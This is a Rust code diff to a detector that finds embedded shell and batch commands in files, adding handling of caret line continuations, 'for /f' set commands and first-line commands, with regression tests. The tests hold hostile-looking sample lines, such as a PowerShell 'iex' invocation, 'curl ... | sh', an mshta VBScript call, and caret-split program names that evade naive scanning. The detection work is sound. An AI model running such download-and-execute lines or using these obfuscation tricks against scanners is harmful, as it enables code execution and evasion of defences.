@@ -2780,12 +2780,34 @@ const LONGEST_NAME: usize = 10;
 /// Whether `word` is one of `names`: compared by length and first byte before the bytes
 /// (a call to `memcmp` per name of the same length was a tenth of the time of a file of
 /// short commands).
+/// A word not starting with a lower-case letter is none of them, without a look at
+/// each (every name does, checked at build time below; review r26-screen: 64 MiB of `^`+CRLF, 22 million
+/// one-word commands, took 52 s of CPU in a debug build, most of it here).
 fn listed(names: &[&[u8]], word: &[u8]) -> bool {
-    word.len() <= LONGEST_NAME
-        && names
-            .iter()
-            .any(|name| name.len() == word.len() && name.first() == word.first() && *name == word)
+    if word.len() > LONGEST_NAME || !word.first().is_some_and(u8::is_ascii_lowercase) {
+        return false;
+    }
+    #[cfg(test)]
+    tests::LISTS_SEARCHED.with(|n| n.set(n.get() + 1));
+    names
+        .iter()
+        .any(|name| name.len() == word.len() && name.first() == word.first() && *name == word)
 }
+
+// Every name of STRONG, WEAK and WRAPPERS starts with a lower-case letter, as `listed`
+// assumes: checked when the crate is built (an unnamed constant is always evaluated).
+const _: () = {
+    let lists: [&[&[u8]]; 3] = [&STRONG, &WEAK, &WRAPPERS];
+    let mut l = 0;
+    while l < lists.len() {
+        let mut i = 0;
+        while i < lists[l].len() {
+            assert!(lists[l][i][0].is_ascii_lowercase());
+            i += 1;
+        }
+        l += 1;
+    }
+};
 
 fn is_strong(word: &[u8]) -> bool {
     if listed(&STRONG, word) {
@@ -3096,7 +3118,11 @@ pub fn find_batch_command(bytes: &[u8]) -> Option<Command> {
 
 /// [`find_batch_command`] that stops at `clock`'s deadline: a warning naming it.
 pub fn find_batch_command_until(bytes: &[u8], clock: &Clock) -> Option<Command> {
-    search_batch(bytes, Variables::default(), clock)
+    // cmd.exe runs a batch file from its first line: the file's start is a line's start
+    // (review r26-screen: `powershell -c …` on the first line was no command). A later
+    // window of a file starts anywhere in a line, and is read from its separators only.
+    batch_command_at(bytes, 0, &mut Variables::default())
+        .or_else(|| search_batch(bytes, Variables::default(), clock))
 }
 
 /// [`find_batch_command`] in a later window of a file read in windows, with the `set`
@@ -3225,8 +3251,30 @@ fn batch_command_at(bytes: &[u8], at: usize, variables: &mut Variables) -> Optio
     #[cfg(test)]
     tests::LOOKED_AT.with(|n| n.set(n.get() + 1));
     let line = bytes.get(at..)?;
-    let skip = program_start(line);
+    let (skip, set_command) = program_start_and_set_command(line);
+    // The command of a `for /f` set runs before the loop's body: judged first, as a
+    // command of its own (not again for a `for /f` inside it: one level, linear).
+    if let Some(set) = set_command
+        && let Some(found) = command_at(bytes, at + set, variables)
+    {
+        return Some(found);
+    }
+    command_at(bytes, at + skip, variables)
+}
+
+/// The command whose program starts at `at` (past what [`program_start`] skips), if its
+/// program is one [`batch_program`] knows.
+fn command_at(bytes: &[u8], at: usize, variables: &mut Variables) -> Option<Command> {
+    // Nothing to skip where `batch_command_at` skipped it already; a set's command
+    // (`('@call powershell …')`) is read past its own `@` and `call`.
+    let skip = program_start(bytes.get(at..)?);
+    let line = bytes.get(at..)?;
     let start = &line[skip..];
+    if !may_name_a_program(start) {
+        return None;
+    }
+    #[cfg(test)]
+    tests::READ_AS_COMMANDS.with(|n| n.set(n.get() + 1));
     // cmd.exe expands `%...%` in a line before it reads the command's name from it:
     // the name is judged as expanded (a copy of this one line, when the name has a
     // `%`), and a name built from a substring or replacement, or from input, is
@@ -3283,11 +3331,22 @@ fn batch_command_at(bytes: &[u8], at: usize, variables: &mut Variables) -> Optio
     // either: each line at most once).
     let unescaped;
     let start = match unescaped_program_name(start) {
-        Some(line) => {
+        Ok(Some(line)) => {
             unescaped = line;
             &unescaped[..]
         }
-        None => start,
+        Ok(None) => start,
+        Err(past) => {
+            return Some(Command {
+                offset: at + skip,
+                interpreter: "batch",
+                severity: Severity::Warning,
+                detail: format!(
+                    "a Windows command line whose program name cmd.exe joins over more than {MAX_BATCH_NAME_CONTINUATIONS} lines ending with a caret (MAX_BATCH_NAME_CONTINUATIONS), up to offset {}: what it runs, and the batch commands after it, were not inspected",
+                    at + skip + past
+                ),
+            });
+        }
     };
     let program = batch_program(start, named_by_path)?;
     let offset = at + skip;
@@ -3324,6 +3383,19 @@ fn batch_command_at(bytes: &[u8], at: usize, variables: &mut Variables) -> Optio
     })
 }
 
+/// Whether the first word of `start` could name a program once cmd.exe has read it: it
+/// holds a letter or a digit (of a name, a path, an extension), a byte past ASCII (a
+/// letter of the console's code page), a quote (a quoted name runs to its closing
+/// quote, blanks and all), or a `%` or `!` that expands to one. A word of only `\`, `^`,
+/// `.`, `@` and such names nothing: one short look instead of the copies and lists of
+/// [`batch_command_at`] (review r26-screen: 64 MiB of `\`+newline, `^`+CRLF or `&\`
+/// made 32 million such candidates, 55 s of CPU in a debug build).
+fn may_name_a_program(start: &[u8]) -> bool {
+    start[..first_word_end(start)]
+        .iter()
+        .any(|&b| b.is_ascii_alphanumeric() || b >= 0x80 || matches!(b, b'"' | b'%' | b'!'))
+}
+
 /// The program of [`BATCH`] the command at the start of `start` runs (its name followed by
 /// a delimiter, the line's end, or `.exe`), an ambiguous one only with a command's
 /// argument; or, for a name of no tool known here, the name itself when it ends with an
@@ -3333,7 +3405,17 @@ fn batch_command_at(bytes: &[u8], at: usize, variables: &mut Variables) -> Optio
 fn batch_program(start: &[u8], by_path: bool) -> Option<&[u8]> {
     let name_ends =
         |b: Option<u8>| b.is_some_and(|b| matches!(b, b'\r' | b'\n') || is_token_delimiter(b));
-    for launcher in BATCH {
+    // Every tool of BATCH starts with a letter: a line starting with anything else (the
+    // `\` of a line of `\`+newline, a caret, a digit) is compared with none of them.
+    // Review r26-screen: the list was walked (and copied, iterated by value) for every
+    // candidate, ~1 us each in a debug build: 64 MiB of `\`+newline, 32 million
+    // candidates, took 55 s of CPU.
+    let launchers: &[&[u8]] = if start.first().is_some_and(u8::is_ascii_alphabetic) {
+        &BATCH
+    } else {
+        &[]
+    };
+    for &launcher in launchers {
         let Some(head) = start.get(..launcher.len()) else {
             continue;
         };
@@ -3437,6 +3519,15 @@ fn runs_subcommand(tool: &[u8], rest: &[u8]) -> bool {
 /// Each step moves forward, and the search stays within this command (to its `&`, `|`
 /// or line end, where the next candidate starts): linear over the bytes searched.
 fn program_start(line: &[u8]) -> usize {
+    program_start_and_set_command(line).0
+}
+
+/// [`program_start`], and where the command of a `for /f` set starts when the line's
+/// `for` has one: `for /f %%a in ('powershell -c x') do echo %%a` runs `powershell` first
+/// (cmd.exe runs a set in single quotes, or in backquotes with `usebackq`, as a command
+/// and reads its output; review r26-screen: it was no command here).
+fn program_start_and_set_command(line: &[u8]) -> (usize, Option<usize>) {
+    let mut set_command = None;
     let delimiter = |b: &u8| is_token_delimiter(*b) || matches!(b, b'\r' | b'@' | b'(');
     // A word also ends at an operator or the line's end, where the next candidate
     // starts; the command's extent is only looked for after `if` and `for`.
@@ -3452,7 +3543,7 @@ fn program_start(line: &[u8]) -> usize {
             line.get(at).map(u8::to_ascii_lowercase),
             Some(b'c' | b'i' | b'f')
         ) {
-            return at;
+            return (at, set_command);
         }
         let word_end = at
             + line[at..]
@@ -3470,15 +3561,17 @@ fn program_start(line: &[u8]) -> usize {
             // A condition cmd.exe cannot read is a syntax error: nothing runs.
             match past_if_condition(command(), word_end) {
                 Some(body) => at = body,
-                None => return at,
+                None => return (at, set_command),
             }
         } else if word.eq_ignore_ascii_case(b"for") {
+            // The first `for /f` of the line only: each step moves forward.
+            set_command = set_command.or_else(|| for_f_set_command(command(), word_end));
             match past_for_do(command(), word_end) {
                 Some(body) => at = body,
-                None => return at,
+                None => return (at, set_command),
             }
         } else {
-            return at;
+            return (at, set_command);
         }
     }
 }
@@ -3528,6 +3621,57 @@ fn past_if_condition(command: &[u8], from: usize) -> Option<usize> {
         return Some(next().1);
     }
     op.starts_with(b"==").then_some(op_end) // `a ==b`
+}
+
+/// Where the command of the set of a `for /f` whose keyword ends at `from` starts: past
+/// `/f`, its quoted options, the `%%a` variable and `in`, a `(` then a single quote or a
+/// backquote (`usebackq`); `None` for any other `for`, or a set of files or strings.
+fn for_f_set_command(command: &[u8], from: usize) -> Option<usize> {
+    let mut at = from;
+    let mut next_word = || {
+        at += command[at..]
+            .iter()
+            .position(|&b| !is_token_delimiter(b))
+            .unwrap_or(command.len() - at);
+        let start = at;
+        if command.get(at) == Some(&b'"') {
+            // `"tokens=1 delims="`: one word, blanks and all.
+            at += 1 + memchr::memchr(b'"', &command[at + 1..])
+                .map_or(command.len() - at - 1, |n| n + 1);
+        } else {
+            at += command[at..]
+                .iter()
+                .position(|&b| is_token_delimiter(b) || b == b'(')
+                .unwrap_or(command.len() - at);
+        }
+        (start, at)
+    };
+    let (switch, end) = next_word();
+    if !command[switch..end].eq_ignore_ascii_case(b"/f") {
+        return None;
+    }
+    let mut word = next_word();
+    if command.get(word.0) == Some(&b'"') {
+        word = next_word(); // the options
+    }
+    if !command[word.0..word.1].starts_with(b"%") {
+        return None;
+    }
+    let (keyword, end) = next_word();
+    if !command[keyword..end].eq_ignore_ascii_case(b"in") {
+        return None;
+    }
+    let rest = &command[end..];
+    let open = end + rest.iter().position(|&b| !is_token_delimiter(b))?;
+    if command.get(open) != Some(&b'(') {
+        return None;
+    }
+    let quote = open
+        + 1
+        + command[open + 1..]
+            .iter()
+            .position(|&b| !is_token_delimiter(b))?;
+    matches!(command.get(quote), Some(b'\'' | b'`')).then_some(quote + 1)
 }
 
 /// Where the body of a `for` whose keyword ends at `from` starts: after the `do` that
@@ -3590,13 +3734,95 @@ fn program_by_path(start: &[u8]) -> Option<Vec<u8>> {
     } else {
         name.iter().rposition(|&b| b == b'\\')?
     };
+    // A path ending in its separator (`\`, `C:\dir\`) names a folder, no program: no
+    // copy of the line (one per line of a file of `\`+newline, review r26-screen).
+    if last + 1 == name.len() {
+        return None;
+    }
     Some([&name[last + 1..], rest].concat())
 }
 
-/// The line at the start of `start` (to its `\n`, included) with the carets and double
-/// quotes of its first word removed as cmd.exe removes them (`^x` is `x`), or `None`
-/// when its first word has neither.
-fn unescaped_program_name(start: &[u8]) -> Option<Vec<u8>> {
+/// Lines a program's name is followed over when each ends with cmd.exe's line
+/// continuation (a caret last on the line, `p^` then `owershell`); a name split over more
+/// is a `not-inspected` warning. Each line is read by the names of at most this many
+/// lines before it: linear however many lines of `^` a file holds.
+pub const MAX_BATCH_NAME_CONTINUATIONS: usize = 16;
+
+/// Where the line continuation of a caret that ends `word` (`word_end` in `start`) takes
+/// the name on: past the line end (CRs, which cmd.exe removes before it reads carets, then
+/// the `\n`), if the word ends with an odd number of carets (`^^` is a caret).
+fn continued_at(start: &[u8], word_end: usize) -> Option<usize> {
+    let carets = start[..word_end]
+        .iter()
+        .rev()
+        .take_while(|&&b| b == b'^')
+        .count();
+    if carets % 2 == 0 {
+        return None;
+    }
+    let crs = start[word_end..]
+        .iter()
+        .take_while(|&&b| b == b'\r')
+        .count();
+    (start.get(word_end + crs) == Some(&b'\n')).then_some(word_end + crs + 1)
+}
+
+/// The first word of `start` as cmd.exe reads a program's name: its carets removed (`^x`
+/// is `x`), its double quotes removed, and a caret last on the line joining the next
+/// line's first word to it, whose first byte is taken as written (`p^` CRLF `owershell`
+/// is `powershell`, review r26-screen). With where the name ends in `start`, or `Err`
+/// with the offset of the line past [`MAX_BATCH_NAME_CONTINUATIONS`].
+fn program_name_as_read(start: &[u8]) -> Result<(Vec<u8>, usize), usize> {
+    let ends_word =
+        |b: u8| is_token_delimiter(b) || matches!(b, b'\r' | b'\n' | b'&' | b'|' | b'<' | b'>');
+    let mut name = Vec::new();
+    let mut from = 0;
+    let mut literal_first = false;
+    for _ in 0..=MAX_BATCH_NAME_CONTINUATIONS {
+        if literal_first {
+            // cmd.exe removed the CRs: an empty line after the caret is an escaped line
+            // feed, which joins the line after it too.
+            let crs = start[from..].iter().take_while(|&&b| b == b'\r').count();
+            if start.get(from + crs) == Some(&b'\n') {
+                from += crs + 1;
+                literal_first = false;
+                continue;
+            }
+        }
+        let line = &start[from..];
+        // The first byte of a continued line is escaped: taken as written, whatever it is.
+        let skip = usize::from(literal_first && !line.is_empty());
+        let word_end = skip
+            + line[skip..]
+                .iter()
+                .position(|&b| ends_word(b))
+                .unwrap_or(line.len() - skip);
+        let mut escaped = false;
+        for (i, &b) in line[..word_end].iter().enumerate() {
+            match b {
+                _ if i < skip => name.push(b),
+                b'^' if !escaped => escaped = true,
+                b'"' if !escaped => {}
+                _ => {
+                    name.push(b);
+                    escaped = false;
+                }
+            }
+        }
+        let Some(next) = continued_at(&line[skip..], word_end - skip) else {
+            return Ok((name, from + word_end));
+        };
+        from += skip + next;
+        literal_first = true;
+    }
+    Err(from)
+}
+
+/// The line at the start of `start` (to its `\n`, included) with its first word read as
+/// cmd.exe reads a program's name ([`program_name_as_read`]), or `None` when its first
+/// word has no caret and no quote. `Err` with an offset in `start` where a name runs past
+/// [`MAX_BATCH_NAME_CONTINUATIONS`] lines.
+fn unescaped_program_name(start: &[u8]) -> Result<Option<Vec<u8>>, usize> {
     // The first word only, on every candidate command (this runs over pixel data); the
     // line's end only for a word that has a caret or a quote. The word ends at an
     // operator too, as cmd.exe ends it: a command starts after every `&` and `|`, and a
@@ -3607,27 +3833,16 @@ fn unescaped_program_name(start: &[u8]) -> Option<Vec<u8>> {
             is_token_delimiter(b) || matches!(b, b'\r' | b'\n' | b'&' | b'|' | b'<' | b'>')
         })
         .unwrap_or(start.len());
-    let word = &start[..word_end];
-    if !word.iter().any(|b| matches!(b, b'^' | b'"')) {
-        return None;
+    if !start[..word_end].iter().any(|b| matches!(b, b'^' | b'"')) {
+        return Ok(None);
     }
+    let (mut out, name_end) = program_name_as_read(start)?;
     // To the command's end (its operator or the line's end), not past the next place a
     // candidate starts: linear however many `&^` a line holds.
-    let line = &start[..memchr::memchr3(b'\n', b'&', b'|', start).map_or(start.len(), |n| n + 1)];
-    let mut out = Vec::with_capacity(line.len());
-    let mut escaped = false;
-    for &b in word {
-        match b {
-            b'^' if !escaped => escaped = true,
-            b'"' if !escaped => {}
-            _ => {
-                out.push(b);
-                escaped = false;
-            }
-        }
-    }
-    out.extend_from_slice(&line[word_end..]);
-    Some(out)
+    let rest = &start[name_end..];
+    let rest = &rest[..memchr::memchr3(b'\n', b'&', b'|', rest).map_or(rest.len(), |n| n + 1)];
+    out.extend_from_slice(rest);
+    Ok(Some(out))
 }
 
 /// Variables a batch file sets (`set NAME=value`), read once per search, on the first
@@ -4062,6 +4277,39 @@ mod tests {
         /// Candidates (a `!` for ex, a separator for batch) looked at past the one-byte
         /// filters, on this thread.
         pub(super) static LOOKED_AT: std::cell::Cell<usize> = const { std::cell::Cell::new(0) };
+        /// Batch candidates whose first word could name a program, read in full.
+        pub(super) static READ_AS_COMMANDS: std::cell::Cell<usize> = const { std::cell::Cell::new(0) };
+        /// Words the shell model searched the lists of command names for.
+        pub(super) static LISTS_SEARCHED: std::cell::Cell<usize> = const { std::cell::Cell::new(0) };
+    }
+
+    /// Review r26-screen: 64 MiB of `\`+newline took 55 s of CPU (debug) in the batch
+    /// reader, 64 MiB of `^`+CRLF 52 s in the shell model: 32 and 22 million lines, each
+    /// copied, unescaped and compared with every tool's name although its one word (`\`,
+    /// `^`, `&\`) can name no program. Such lines are turned away at one look now: none
+    /// is read as a command, no list searched; a command among them is still found.
+    #[test]
+    fn lines_whose_word_names_nothing_are_turned_away_at_one_look() {
+        for unit in [&b"\\\n"[..], b"^\r\n", b"&\\", b"\\\r\n", b"...\n", b"@\n"] {
+            let lines = unit.repeat(1 << 16);
+            READ_AS_COMMANDS.with(|n| n.set(0));
+            assert!(find_batch_command(&lines).is_none(), "{unit:?}");
+            let read = READ_AS_COMMANDS.with(|n| n.get());
+            assert_eq!(read, 0, "{unit:?}: {read} lines read as commands");
+            LISTS_SEARCHED.with(|n| n.set(0));
+            let sh = find_shell_command(&lines);
+            let searched = LISTS_SEARCHED.with(|n| n.get());
+            assert_eq!(
+                searched, 0,
+                "{unit:?}: {searched} words searched for ({sh:?})"
+            );
+            let mut with = lines.clone();
+            with.extend_from_slice(b"\r\npowershell -nop -c iex(x)\r\n");
+            assert!(find_batch_command(&with).is_some(), "{unit:?}");
+        }
+        let mut sh = b"^\n".repeat(1 << 16);
+        sh.extend_from_slice(b"curl -s http://x/y | sh\n");
+        assert!(find_shell_command(&sh).is_some());
     }
 
     /// 16-bit pixel data as a CT scanner writes it (values near the air and soft tissue
@@ -4829,6 +5077,7 @@ mod tests {
         assert!(quoted.detail.contains("program files"), "{}", quoted.detail);
         for line in [
             &b"x\np^^owershell -c x\n"[..],
+            b"x\np^^\nowershell -c x\n",
             b"x\n\"the scan\" was repeated\n",
             b"x\n^\n",
         ] {
@@ -4839,6 +5088,120 @@ mod tests {
                 String::from_utf8_lossy(line)
             );
         }
+    }
+
+    /// Review r26-screen: a caret last on a line joins the next line to it (cmd.exe's
+    /// line continuation; the CRs of a CRLF file are removed before carets are read, and
+    /// the joined line's first byte is taken as written): `p^` CRLF `owershell` is
+    /// PowerShell, and was no command here. An even number of carets is a caret.
+    #[test]
+    fn a_program_name_split_by_caret_line_continuations_is_joined() {
+        for file in [
+            &b"x\r\np^\r\nowershell -nop -c iex(x)\r\n"[..],
+            b"x\np^\now^\ners^\nhell -c x\n",
+            b"x\r\nm^\r\ns^\r\nhta vbscript:Execute(x)\r\n",
+            b"x\r\np^\r\n\r\nowershell -c x\r\n",
+        ] {
+            let found = find_batch_command(file);
+            assert!(
+                found
+                    .as_ref()
+                    .is_some_and(|c| c.severity == Severity::Alert),
+                "{}: {found:?}",
+                String::from_utf8_lossy(file)
+            );
+        }
+        // The escaped first byte of a joined line is a caret as written: `m^shta`.
+        for file in [
+            &b"x\np^^\r\nowershell -c x\n"[..],
+            b"x\np^ \nowershell\n",
+            b"x\r\nm^\r\n^s^\r\nhta vbscript:Execute(x)\r\n",
+        ] {
+            assert_eq!(
+                find_batch_command(file),
+                None,
+                "{}",
+                String::from_utf8_lossy(file)
+            );
+        }
+    }
+
+    /// Review r26-screen: `for /f %%a in ('powershell -c x') do echo %%a` runs
+    /// PowerShell (cmd.exe runs the set's command and reads its output), and was no
+    /// command here: only the loop's body was read.
+    #[test]
+    fn the_command_of_a_for_f_set_is_read_as_a_command() {
+        for file in [
+            &b"x\r\nfor /f %%a in ('powershell -nop -c iex(x)') do echo %%a\r\n"[..],
+            b"x\r\n@for /F \"usebackq tokens=*\" %%a IN (`mshta vbscript:Execute(x)`) do set v=%%a\r\n",
+            b"x\r\nfor /f \"delims=\" %%a in ( ' @call powershell -c x ' ) do echo %%a\r\n",
+            b"x\r\nfor /f %%a in ('dir /b') do powershell -c %%a\r\n",
+        ] {
+            let found = find_batch_command(file);
+            assert!(
+                found.as_ref().is_some_and(|c| c.severity == Severity::Alert),
+                "{}: {found:?}",
+                String::from_utf8_lossy(file)
+            );
+        }
+        for file in [
+            &b"x\r\nfor /f %%a in (powershell.txt) do echo %%a\r\n"[..],
+            b"x\r\nfor %%a in ('powershell') do echo %%a\r\n",
+            b"x\r\nfor /f %%a in (\"powershell -c x\") do echo %%a\r\n",
+            b"x\r\nfor /f %%a in ('dir /b') do echo %%a\r\n",
+        ] {
+            assert_eq!(
+                find_batch_command(file),
+                None,
+                "{}",
+                String::from_utf8_lossy(file)
+            );
+        }
+    }
+
+    /// Review r26-screen: cmd.exe runs a batch file's first line like any other, and a
+    /// command there (a whole file of `powershell -nop -c …`, or a preamble starting so)
+    /// was no command: only lines after a separator were read.
+    #[test]
+    fn a_command_on_the_first_line_is_read() {
+        for file in [
+            &b"powershell -nop -c iex(x)\r\n"[..],
+            b"@p^\r\nowershell -c x",
+            b"for /f %%a in ('mshta vbscript:Execute(x)') do echo %%a\r\n",
+        ] {
+            let found = find_batch_command(file);
+            assert!(
+                found
+                    .as_ref()
+                    .is_some_and(|c| c.severity == Severity::Alert && c.offset < 20),
+                "{}: {found:?}",
+                String::from_utf8_lossy(file)
+            );
+        }
+        assert_eq!(find_batch_command(b"PowerShells and shells\r\n"), None);
+    }
+
+    /// MAX_BATCH_NAME_CONTINUATIONS at its value: a name over that many continued lines
+    /// is read; one more is a warning naming the limit, not silence.
+    #[test]
+    fn a_name_over_more_continued_lines_than_the_limit_is_a_warning() {
+        let name = |lines: usize| [b"a^\n".repeat(lines), b"b -c x\n".to_vec()].concat();
+        let at_limit = name(MAX_BATCH_NAME_CONTINUATIONS);
+        let (read, _) = program_name_as_read(&at_limit).expect("within the limit");
+        assert_eq!(read.len(), MAX_BATCH_NAME_CONTINUATIONS + 1);
+        assert!(program_name_as_read(&name(MAX_BATCH_NAME_CONTINUATIONS + 1)).is_err());
+        let file = [&b"x\n"[..], &name(MAX_BATCH_NAME_CONTINUATIONS + 1)].concat();
+        let found = find_batch_command(&file).expect("a warning");
+        assert_eq!(found.severity, Severity::Warning);
+        assert!(
+            found.detail.contains("MAX_BATCH_NAME_CONTINUATIONS"),
+            "{}",
+            found.detail
+        );
+        // Linear: a file of such lines is read in time (each line by at most
+        // MAX_BATCH_NAME_CONTINUATIONS names before it).
+        let many = b"a^\n".repeat(1 << 18);
+        assert!(find_batch_command(&many).is_some());
     }
 
     /// Review s15-r10: a `:normal` line of many `!` and no Enter key (so no filter runs)
